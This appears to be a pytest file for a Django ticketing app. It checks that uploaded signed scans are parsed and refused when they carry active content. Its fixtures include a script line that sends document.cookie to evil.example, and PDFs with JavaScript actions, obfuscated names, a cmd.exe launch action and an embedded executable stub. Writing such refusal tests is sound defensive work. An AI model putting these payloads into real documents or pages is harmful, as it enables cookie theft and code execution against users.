"""A signed scan is checked for what it is, not only for its first bytes: a PDF is parsed and
refused with active content (JavaScript, actions, embedded files…); an image is decoded whole."""

import io

import pytest
from django.core.exceptions import ValidationError
from PIL import Image
from pypdf import PdfWriter

from billetterie.attendees.letter_pdf import letter_pdf
from billetterie.attendees.services.letters import scan_check

CATALOG = b"<< /Type /Catalog /Pages 2 0 R%s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]%s >>"
HTML = (
    b"<html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>\n"
)
JS_ACTION = b" /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"


def pdf(catalog: bytes = b"", page: bytes = b"", *more: bytes, prefix: bytes = b"") -> bytes:
    """A well-formed PDF (cross-reference table included) with the given extra entries."""
    objects = [CATALOG % catalog, PAGES, PAGE % page, *more]
    out = bytearray(b"%PDF-1.7\n" + prefix)
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise((128, 128), 64).convert("RGB").save(buffer, format="JPEG", quality=95)
    return buffer.getvalue()


def _refused(content: bytes) -> str:
    with pytest.raises(ValidationError) as refused:
        scan_check(content)
    return " ".join(refused.value.messages)


def test_a_plain_pdf_is_accepted():
    assert scan_check(pdf()) == "application/pdf"
    assert scan_check(pdf(b" /OpenAction [3 0 R /Fit]")) == "application/pdf"  # open at page 1
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    buffer = io.BytesIO()
    writer.write(buffer)
    assert scan_check(buffer.getvalue()) == "application/pdf"


@pytest.mark.django_db
def test_the_prefilled_letter_itself_is_accepted(campaign, association, accept):
    accept(association, size=4)
    assert scan_check(letter_pdf(campaign=campaign, association=association)) == "application/pdf"


def test_the_review_case_html_body_and_javascript_action_is_refused():
    message = _refused(pdf(JS_ACTION, prefix=HTML))
    assert "contenu actif" in message or "PDF, un JPEG ou un PNG" in message


@pytest.mark.parametrize(
    "content",
    [
        pdf(JS_ACTION),
        pdf(b" /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),  # hex-escaped names
        pdf(b" /Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (1) >>] >> >>"),
        pdf(b"", b" /AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>"),
        pdf(b" /OpenAction << /S /Launch /F (cmd.exe) >>"),
        pdf(
            b" /Names << /EmbeddedFiles << /Names [(a.html) 4 0 R] >> >>",
            b"",
            b"<< /Type /Filespec /F (a.html) /EF << /F 5 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 6 >>\nstream\nMZ\x90\x00\x03\x00\nendstream",
        ),
        pdf(b"", b" /Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>]"),
        pdf(b" /AcroForm << /Fields [] /XFA 4 0 R >>", b"", b"(<xdp:xdp/>)"),
        pdf(b" /Extra 4 0 R", b"", b"<< /Deeper [<< /S /JavaScript /JS (1) >>] >>"),
    ],
    ids=[
        "open-action-js",
        "obfuscated-names",
        "document-js",
        "page-additional-action",
        "launch",
        "embedded-file",
        "rich-media",
        "xfa",
        "nested",
    ],
)
def test_pdfs_with_active_content_are_refused(content):
    assert "contenu actif" in _refused(content)


def test_html_hidden_in_a_pdf_is_refused():
    assert _refused(pdf(prefix=HTML))


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n%%EOF\n",  # no catalog, no pages
        b"%PDF-1.4\ngarbage garbage\n%%EOF\n",
        pdf()[:-200] + b"%%EOF\n",
    ],
)
def test_pdfs_that_do_not_parse_are_refused(content):
    assert "PDF, un JPEG ou un PNG" in _refused(content)


def test_an_encrypted_pdf_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("", "proprietaire", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    assert "mot de passe" in _refused(buffer.getvalue())


def test_a_truncated_jpeg_is_refused():
    content = _jpeg()
    assert scan_check(content) == "image/jpeg"
    assert "PDF, un JPEG ou un PNG" in _refused(content[: int(len(content) * 0.8)])


def test_an_image_carrying_html_is_refused():
    assert _refused(_jpeg() + HTML)
